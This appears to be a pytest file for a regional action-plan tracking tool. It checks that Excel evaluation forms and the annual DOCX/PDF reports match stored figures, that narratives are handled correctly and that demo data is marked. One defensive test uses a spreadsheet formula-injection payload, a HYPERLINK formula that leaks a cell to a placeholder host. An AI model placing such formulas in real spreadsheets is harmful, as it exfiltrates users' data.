"""Documents made from a loaded store: the Permendagri 86/2017 evaluation form, opened with
openpyxl and compared with the store, and read back through the loader to the same figures."""

from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from sqlmodel import select

from indicators.db import session
from indicators.models import Achievement, Agency, Indicator
from indicators.queries import get_plan
from loaders.demo import load_demo
from loaders.ingest import ingest_file
from radtrack.cli import main
from reports.evaluasi import HEADER_TOP, write_form
from tests.conftest import fill, make_template
from tests.test_dashboard import needs_browser

JT = 1_000_000
QUARTERS = {  # DINSOS, 2021, per triwulan: the figures the agency reported
    1: {"2.a.1.3": {"value": 2, "spent": 15 * JT, "budget": 40 * JT}, "2.b.1.1": {"value": 5}},
    2: {"2.a.1.3": {"value": 3, "spent": 9 * JT}, "2.a.1.1": {"value": "Sudah"}},
    4: {"2.a.1.3": {"value": 4, "spent": 11 * JT}, "2.b.1.1": {"value": 7, "spent": 2 * JT}},
}


def _cli(engine, *args):
    env = {"RADTRACK_DATABASE_URL": engine.url.render_as_string(hide_password=False)}
    return CliRunner().invoke(main, [str(a) for a in args], env=env)


def _load(store, tmp_path: Path) -> None:
    before = fill(make_template(store, tmp_path / "d2020.xlsx", "DINSOS", 2020), {
        "2.a.1.3": {"value": 20, "spent": 30 * JT}, "2.b.1.1": {"value": 10},
    })  # fmt: skip
    assert ingest_file(store, before).ok
    for q, values in QUARTERS.items():
        path = fill(make_template(store, tmp_path / f"d{q}.xlsx", "DINSOS", 2021, q), values)
        assert ingest_file(store, path).ok
    polres = fill(make_template(store, tmp_path / "p.xlsx", "POLRES", 2021, 1), {
        "3.a.1.1": {"value": 6},
    })  # fmt: skip
    assert ingest_file(store, polres).ok


def _rows(path: Path) -> dict[str, dict[int, object]]:
    """Indicator rows of the form by code (column C): {code: {column: value}}."""
    ws = openpyxl.load_workbook(path).active
    out = {}
    for row in ws.iter_rows(min_row=HEADER_TOP + 4):
        code = row[0].value  # the No column holds the RAD's code
        if isinstance(code, str) and code.count(".") == 3:
            out[code] = {c.column: c.value for c in row if c.value not in (None, "")}
    return out


def test_the_evaluation_form_holds_the_store_figures_and_loads_back(store, tmp_path):
    _load(store, tmp_path)
    result = _cli(store, "report", "evaluasi", "--year", 2021, "--agency", "DINSOS",
                  "-o", tmp_path / "form.xlsx")  # fmt: skip
    assert result.exit_code == 0, result.output
    form = tmp_path / "form.xlsx"
    ws = openpyxl.load_workbook(form).active
    assert ws["A1"].value.startswith("EVALUASI TERHADAP HASIL RENJA PERANGKAT DAERAH")
    assert "Dinas Sosial" in ws["A3"].value and "TAHUN 2021" in ws["A4"].value
    assert [ws.cell(HEADER_TOP + 3, c).value for c in (1, 4, 5, 11, 19, 28)] == [
        "(1)", "(4)", "(5)", "(8)", "(12)", "(17)",
    ]  # fmt: skip
    assert "BAPELITBANG" in ws["A5"].value  # the planning agency as the TTU RAD names it
    rows = _rows(form)
    victims = rows["2.a.1.3"]
    # (8)-(11): each triwulan's K and Rp; TW III not reported stays empty
    assert [victims.get(c) for c in range(11, 19)] == [
        2,
        15 * JT,
        3,
        9 * JT,
        None,
        None,
        4,
        11 * JT,
    ]
    assert victims[19] == 9 and victims[20] == 35 * JT  # (12): the year, added up
    assert victims[7] == 20 and victims[8] == 30 * JT  # (6): before this year
    assert victims[23] == 29 and victims[24] == 65 * JT  # (14): to date
    assert victims[5] == 150 and victims[25] == pytest.approx(29 / 150 * 100, abs=0.01)
    assert victims[21] == pytest.approx(9 / 30 * 100, abs=0.01)  # 150 over 5 years: 30 a year
    assert victims[10] == 40 * JT and victims[22] == pytest.approx(35 / 40 * 100, abs=0.01)
    assert rows["2.a.1.1"][13] == "Sudah" and rows["2.a.1.1"][19] == "Sudah"
    assert "3.a.1.1" in rows and 11 not in rows["3.a.1.1"]  # POLRES's figure is not DINSOS's
    # every figure of the store for DINSOS 2021 is in the form
    with session(store) as s:
        dinsos = s.exec(select(Agency.id).where(Agency.code == "DINSOS")).one()
        stored = s.exec(
            select(Achievement).where(Achievement.agency_id == dinsos, Achievement.year == 2021)
        ).all()
        codes = {i.id: i.code for i in s.exec(select(Indicator))}
    assert len(stored) == 6
    for a in stored:  # each stored figure and spending in its triwulan's K and Rp cells
        cells = rows[codes[a.indicator_id]]
        shown = cells.get(11 + 2 * (a.quarter - 1))
        assert shown == ("Sudah" if codes[a.indicator_id] == "2.a.1.1" else a.value)
        assert cells.get(12 + 2 * (a.quarter - 1)) == a.spent
    # signatures: blank lines to fill by hand, never an invented name
    text = " ".join(str(c.value) for r in ws.iter_rows() for c in r if c.value)
    assert "(............................................)" in text
    assert "Kepala BAPELITBANG Kabupaten Timor Tengah Utara" in text

    # the form read back through the loader: the same figures, nothing changed
    report = ingest_file(store, form, dry_run=True, lang="en")
    assert report.ok, [p.message("en") for p in report.errors]
    assert (report.agency, report.year) == ("DINSOS", 2021)
    assert sorted(p["quarter"] for p in report.periods) == [1, 2, 4]
    for period in report.periods:
        changes = period["changes"]
        assert not changes["added"] and not changes["removed"], changes
        # the form has no triwulan pagu (its pagu is the year's, in column 7): only the
        # pagu may differ, never a figure or a spending
        for change in changes["changed"]:
            assert change["old"]["value"] == change["new"]["value"]
            assert change["old"]["spent"] == change["new"]["spent"]


def test_signatories_and_place_come_from_the_settings(store, tmp_path):
    _load(store, tmp_path)
    result = _cli(store, "settings", "TTU-2018-2022", "--place", "Kefamenanu",
                  "--compiled-by", "Drs. Yohanes Taek|19680304 199303 1 007|Kepala Dinas Sosial",
                  "--evaluated-by", "Ir. Maria Bano|19710615 199803 2 004")  # fmt: skip
    assert result.exit_code == 0, result.output
    with session(store) as s:
        write_form(s, get_plan(s), 2021, tmp_path / "f.xlsx", "DINSOS")
    ws = openpyxl.load_workbook(tmp_path / "f.xlsx").active
    text = [str(c.value) for r in ws.iter_rows() for c in r if c.value]
    assert "Drs. Yohanes Taek" in text and "NIP. 19710615 199803 2 004" in text
    assert any(t.startswith("Kefamenanu, ") for t in text)
    assert "Kepala Dinas Sosial" in text


def test_demo_figures_only_when_asked_and_then_marked(store, tmp_path):
    assert all(r.ok for r in load_demo(store, tmp_path / "demo"))
    with session(store) as s:
        write_form(s, get_plan(s), 2021, tmp_path / "real.xlsx", "DINSOS")
        write_form(s, get_plan(s), 2021, tmp_path / "demo.xlsx", "DINSOS", include_demo=True)
    assert not any(11 in r or 19 in r for r in _rows(tmp_path / "real.xlsx").values())
    demo = openpyxl.load_workbook(tmp_path / "demo.xlsx").active
    assert demo.title.startswith("DEMO") and demo["A5"].value.startswith("DATA DEMO")
    assert any(19 in r for r in _rows(tmp_path / "demo.xlsx").values())


def _with_narrative(path: Path, rows: dict[str, dict[str, str]]) -> Path:
    """Write texts into a template's Narasi sheet: {cell: text}."""
    wb = openpyxl.load_workbook(path)
    ws = wb["Narasi"]
    for cell, text in rows.items():
        ws[cell] = text
    wb.save(path)
    return path


def test_narratives_from_a_file_and_the_secretariat_with_history(store, tmp_path):
    from indicators import narrative
    from indicators.narrative import Texts
    from loaders.review import withdraw

    path = fill(make_template(store, tmp_path / "d.xlsx", "DINSOS", 2021), {
        "2.a.1.3": {"value": 5},
    })  # fmt: skip
    # row 6 is bidang 2 (rows 5-8: bidang 1-4); a line of its own about one indicator
    _with_narrative(path, {"C6": "Dukungan IOM", "D6": "Refocusing anggaran",
                           "E6": "Pelatihan petugas", "A9": "2", "B9": "2.A.1.3",
                           "D9": "Korban enggan melapor"})  # fmt: skip
    assert ingest_file(store, path).ok
    with session(store) as s:
        plan = get_plan(s)
        texts = narrative.current(s, plan, 2021)
        narrative.write(s, plan, 2, 2021, None, Texts("Koordinasi baik", "", ""), "sekretariat")
        narrative.write(s, plan, 2, 2021, None, Texts("Koordinasi sangat baik", "", ""), "sek")
        s.commit()
        both = narrative.current(s, plan, 2021)
    assert list(zip(texts["agency"], texts["indicator"], texts["penghambat"], strict=True)) == [
        ("DINSOS", "", "Refocusing anggaran"),
        ("DINSOS", "2.a.1.3", "Korban enggan melapor"),
    ]
    assert texts["source"].tolist() == ["d.xlsx, Narasi, 6", "d.xlsx, Narasi, 9"]
    secretariat = both[both["agency"] == ""]
    assert secretariat["pendorong"].tolist() == ["Koordinasi sangat baik"]  # the newest counts
    # the evaluation form's footer carries what counts
    with session(store) as s:
        write_form(s, get_plan(s), 2021, tmp_path / "f.xlsx", "DINSOS")
    ws = openpyxl.load_workbook(tmp_path / "f.xlsx").active
    footer = {ws.cell(r, 3).value: ws.cell(r, 4).value for r in range(1, ws.max_row + 1)}
    assert footer["Faktor penghambat pencapaian kinerja:"] == (
        "Bidang 2 (DINSOS): Refocusing anggaran Bidang 2, 2.a.1.3 (DINSOS): Korban enggan melapor"
    )
    # withdrawn, the file's narrative stops counting with its figures; the secretariat's stays
    withdraw(store, "DINSOS", 2021, None, "salah periode", "sekretariat")
    with session(store) as s:
        left = narrative.current(s, get_plan(s), 2021)
    assert left["agency"].tolist() == [""]


def test_a_narrative_that_cannot_be_placed_refuses_the_file(store, tmp_path):
    path = fill(make_template(store, tmp_path / "d.xlsx", "DINSOS", 2021), {
        "2.a.1.3": {"value": 5},
    })  # fmt: skip
    _with_narrative(path, {"A9": "9. Bidang khayalan", "C9": "teks"})
    report = ingest_file(store, path, lang="en")
    assert [(p.code, p.sheet, p.row, p.column) for p in report.errors] == [
        ("narrative-bidang", "Narasi", 9, "A")
    ]
    _with_narrative(path, {"A9": "2", "B9": "3.a.1.1"})
    report = ingest_file(store, path, lang="en")
    assert [(p.code, p.row, p.column) for p in report.errors] == [("narrative-indicator", 9, "B")]


def _docx_tables(path: Path) -> list[list[list[str]]]:
    from docx import Document

    return [[[c.text for c in row.cells] for row in t.rows] for t in Document(path).tables]


def _pdf_pages(path: Path) -> list[str]:
    from pypdf import PdfReader

    return [page.extract_text() for page in PdfReader(path).pages]


@pytest.mark.browser
@needs_browser
def test_annual_report_docx_and_pdf_hold_the_store_figures(store, tmp_path):
    from indicators.queries import status_table

    _load(store, tmp_path)
    result = _cli(store, "report", "tahunan", "--year", 2021, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    docx = tmp_path / "out" / "laporan_tahunan_TTU-2018-2022_2021.docx"
    pdf = tmp_path / "out" / "laporan_tahunan_TTU-2018-2022_2021.pdf"
    with session(store) as s:
        status = status_table(s, get_plan(s), 2021, include_demo=False)
    rows = {
        row[0]: row
        for table in _docx_tables(docx)
        for row in table[1:]
        if row and row[0].count(".") == 3
    }
    assert len(rows) == len(status) == 47  # every indicator, per bidang
    for r in status.itertuples():  # each indicator's figures as the store computes them
        shown = rows[r.code]
        expected = "-" if r.realised != r.realised or r.realised is None else None
        if expected is None and r.kind == "milestone":
            expected = "Sudah" if r.realised >= 1 else "Belum"
        elif expected is None:
            expected = f"{round(r.realised, 1):,.1f}".replace(",", "X").replace(".", ",")
            expected = expected.replace("X", ".").removesuffix(",0")
        assert shown[3] == expected, (r.code, shown, r.realised)
    assert rows["2.a.1.3"][3] == "29" and rows["2.a.1.3"][5] == "Sangat Rendah"
    pages = _pdf_pages(pdf)
    text = "\n".join(pages)
    assert "LAPORAN TAHUNAN" in pages[0] and "TAHUN 2021" in pages[0]
    assert "2.a.1.3" in text and "Sangat Rendah" in text
    assert "Kepatuhan pelaporan instansi" in text and "BAPELITBANG" in text
    assert "DEMO" not in text


@pytest.mark.browser
@needs_browser
def test_demo_reports_are_refused_unless_asked_then_marked_on_every_page(store, tmp_path):
    assert all(r.ok for r in load_demo(store, tmp_path / "demo"))
    refused = _cli(store, "report", "lima-tahunan", "-o", tmp_path / "out")
    assert refused.exit_code == 1 and "--include-demo" in refused.output
    made = _cli(store, "report", "lima-tahunan", "--include-demo", "-o", tmp_path / "out")
    assert made.exit_code == 0, made.output
    pages = _pdf_pages(tmp_path / "out" / "laporan_lima_tahunan_TTU-2018-2022_DEMO.pdf")
    assert len(pages) > 5 and all("DATA DEMO" in page for page in pages)
    from docx import Document

    document = Document(tmp_path / "out" / "laporan_lima_tahunan_TTU-2018-2022_DEMO.docx")
    assert "DATA DEMO" in document.sections[0].header.paragraphs[0].text


def test_an_agency_note_that_looks_like_a_formula_is_text_in_the_form(store, tmp_path):
    """A note '=HYPERLINK("http://…?leak="&A2,"Klik")' (typed as text, as Excel keeps it after
    an apostrophe) was written into the evaluation form as a live formula: the planner's Excel
    would have run it. Every cell of the form is text or a number, never a formula."""
    note = '=HYPERLINK("http://contoh.invalid/?leak="&A2,"Klik")'
    path = fill(make_template(store, tmp_path / "d.xlsx", "DINSOS", 2021), {
        "2.a.1.3": {"value": 2, "note": note},
    })  # fmt: skip
    assert ingest_file(store, path).ok
    with session(store) as s:
        write_form(s, get_plan(s), 2021, tmp_path / "f.xlsx", "DINSOS")
    ws = openpyxl.load_workbook(tmp_path / "f.xlsx").active
    cells = [c for r in ws.iter_rows() for c in r if c.value not in (None, "")]
    assert [c.value for c in cells if c.value == note] == [note]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
